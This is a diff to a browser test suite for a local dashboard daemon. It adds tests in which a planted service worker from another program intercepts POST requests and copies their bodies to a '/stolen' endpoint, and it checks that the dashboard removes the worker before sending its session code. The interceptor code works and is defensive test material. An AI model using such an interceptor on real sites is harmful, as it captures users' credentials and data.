@@ -1,4 +1,6 @@
 // The page in a real browser, served by a real daemon: who gets in, what every view is for everybody's eyes and hands, and what cannot run in it.
+import { createServer, type IncomingMessage, request, type ServerResponse } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import type { Browser, BrowserContext, Page, Route } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
@@ -8,6 +10,8 @@ import { append, liveName, records } from '../../support/data/spool.ts'
 import { startNode, type TestNode } from '../../support/node/node.ts'
 import { CHROMIUM, openChromium } from '../../support/run/browser.ts'
 import { faultsOf, prepare, WELL_WALKED, walkedByTab } from '../../support/run/page-checks.ts'
+import { loadPage } from '../../support/run/page-load.ts'
+import { atEnd } from '../../support/run/processes.ts'
 import { PATIENCE_MS, until } from '../../support/run/until.ts'
 
 const VIEWS = ['me', 'sharing', 'mesh', 'team', 'ask', 'posture', 'audit', 'system'] as const
@@ -29,6 +33,20 @@ const GUESS = `(async () => {
 })()`
 const IS_HACKED = "'hacked' in window"
 const WRITE_MARKUP = `(() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (error) { return String(error) } })()`
+
+/** What the other program left: it controls each page at once, and hands on what the page sends. */
+const WORKER = `addEventListener('install', (event) => event.waitUntil(skipWaiting()))
+addEventListener('activate', (event) => event.waitUntil(clients.claim()))
+addEventListener('fetch', (event) => event.respondWith(handOn(event.request)))
+async function handOn(request) {
+  if (request.method === 'POST') await fetch('/stolen', { method: 'POST', body: await request.clone().text() })
+  return fetch(request)
+}`
+const PLANTED = `<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
+  .then(() => (document.title = 'planted'))</script>`
+
+/** For an hour: npm run soak -- page, which also tells how long the page was busy at once. */
+const LOAD_SECONDS = 3
 
 let node: TestNode
 let browser: Browser
@@ -374,6 +392,113 @@ describe.skipIf(CHROMIUM === undefined)(
       await other.goto(await dashboard())
       await other.locator('nav').waitFor()
       await guesser.close()
+    })
+
+    describe('a service worker of another program, which the page ends before it sends anything that it could read', () => {
+      let tabs: BrowserContext
+      let mixed = ''
+      const stolen: string[] = []
+      let posted = 0
+
+      /** The other program and the daemon one after the other at one port are one server here, which asks the daemon for the rest. */
+      function both(incoming: IncomingMessage, response: ServerResponse): void {
+        const { url = '/', method, headers } = incoming
+        if (url === '/plant') response.setHeader('content-type', 'text/html').end(PLANTED)
+        else if (url === '/worker.js') response.setHeader('content-type', 'text/javascript').end(WORKER)
+        else if (url === '/stolen') {
+          incoming.setEncoding('utf8').on('data', (text: string) => stolen.push(text))
+          incoming.on('end', () => response.end())
+        } else {
+          if (method === 'POST' && url.endsWith('/sessions')) posted += 1
+          const { host } = new URL(origin)
+          const own = { ...headers, host, ...(headers.origin === undefined ? {} : { origin }) }
+          const { referer: _, ...told } = own
+          const asked = request(`${origin}${url}`, { method, headers: told }, (answer) => {
+            response.writeHead(answer.statusCode ?? 500, answer.headers)
+            answer.pipe(response)
+          })
+          asked.on('error', () => response.destroy())
+          incoming.pipe(asked)
+        }
+      }
+      const hash = async (): Promise<string> => new URL(await dashboard()).hash
+      async function plant(): Promise<void> {
+        const other = await tabs.newPage()
+        await other.goto(`${mixed}/plant`)
+        await until(async () => (await other.title()) === 'planted', {
+          what: 'the worker controls its pages',
+        })
+        await other.close()
+      }
+      const opened = (page: Page): Promise<void> => page.locator('nav').waitFor()
+
+      beforeAll(async () => {
+        const server = createServer(both).listen(0, '127.0.0.1')
+        atEnd(() => server.closeAllConnections())
+        atEnd(() => void server.close())
+        await new Promise((resolve) => server.once('listening', resolve))
+        mixed = `http://localhost:${(server.address() as AddressInfo).port}`
+        tabs = await browser.newContext()
+        tabs.setDefaultTimeout(PATIENCE_MS)
+      })
+      afterAll(async () => tabs?.close())
+
+      test('the worker reads what a page sends, where nobody ends it', async () => {
+        await plant()
+        const page = await tabs.newPage()
+        await page.goto(`${mixed}/plant`)
+        await page.evaluate(`fetch('/api/v1/nothing', { method: 'POST', body: 'a secret' })`)
+        expect(stolen).toEqual(['a secret'])
+        stolen.length = 0
+        await page.close()
+      })
+
+      test('a page that is opened with a code ends it, and is loaded anew before the code is sent', async () => {
+        await plant()
+        const page = await tabs.newPage()
+        await page.goto(`${mixed}/${await hash()}`)
+        await opened(page)
+        expect(stolen).toEqual([])
+        await page.close()
+      })
+
+      test('so does a page that is there already and is given a code in its address', async () => {
+        const page = await tabs.newPage()
+        await page.goto(`${mixed}/`)
+        await page.getByText('run this in a terminal').waitFor()
+        await plant()
+        const isControlled = async () => (await page.evaluate('navigator.serviceWorker.controller')) !== null
+        await until(isControlled, { what: 'the worker controls the page' })
+        await page.evaluate(`location.hash = ${JSON.stringify(await hash())}`)
+        await opened(page)
+        expect(stolen).toEqual([])
+        await page.close()
+      })
+
+      test('where it cannot be ended the code is not sent, and the page says why', async () => {
+        await plant()
+        const page = await tabs.newPage()
+        await page.addInitScript(
+          `ServiceWorkerRegistration.prototype.unregister = () => Promise.reject(new Error('no'))`,
+        )
+        const before = posted
+        await page.goto(`${mixed}/${await hash()}`)
+        await page.getByText('left a service worker in the browser').waitFor()
+        expect([posted, stolen]).toEqual([before, []])
+        await page.close()
+      })
+    })
+
+    test('under load it grows neither in memory nor in elements while it is used', async () => {
+      const { events } = (await node.status()).store
+      const load = await loadPage({ browser, node, seconds: LOAD_SECONDS, rate: 50, traced: false })
+      expect(load.rounds).toBeGreaterThan(1)
+      expect(load.elementsEnd).toBeLessThan(1.5 * load.elementsWarm)
+      // What is compiled and kept once still comes in the first seconds; a leak of each round would be more.
+      expect(load.heapEnd).toBeLessThan(2 * load.heapWarm)
+      await until(async () => (await node.status()).store.events >= events + load.commands, {
+        what: 'all commands are recorded',
+      })
     })
 
     test('a session that is ended closes the page; a lost daemon is said at once, and locks what changes something', async () => {
